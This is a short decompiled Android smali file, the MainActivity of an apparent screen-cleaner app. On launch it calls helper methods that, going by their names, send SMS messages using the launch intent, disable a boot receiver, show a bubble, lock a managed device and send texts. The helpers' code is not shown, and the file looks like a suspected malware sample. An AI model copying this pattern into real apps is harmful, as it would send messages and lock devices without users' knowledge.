.class public Lcom/appwarden/screen/clean/MainActivity;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .locals 1
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Landroid/app/Activity;->getIntent()Landroid/content/Intent;
    move-result-object v0
    invoke-static {p0, v0}, Lcom/appwarden/screen/clean/Shop;->shareBySms(Landroid/content/Context;Landroid/content/Intent;)V
    invoke-static {p0}, Lcom/appwarden/screen/clean/Shop;->disableBootReceiver(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/clean/Shop;->bubble(Landroid/content/Context;)V
    invoke-static {p0}, Lcom/appwarden/screen/clean/Shop;->lockIfManaged(Landroid/content/Context;)V
    invoke-static {}, Lcom/appwarden/screen/clean/Shop;->texts()V
    return-void
.end method
